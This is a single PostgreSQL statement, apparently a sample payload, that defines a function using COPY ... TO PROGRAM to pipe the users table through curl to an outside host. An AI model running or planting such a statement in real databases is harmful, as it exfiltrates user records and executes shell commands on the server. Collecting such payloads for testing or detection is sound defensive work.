CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY users TO PROGRAM 'curl -d @- example.org'; END $$;
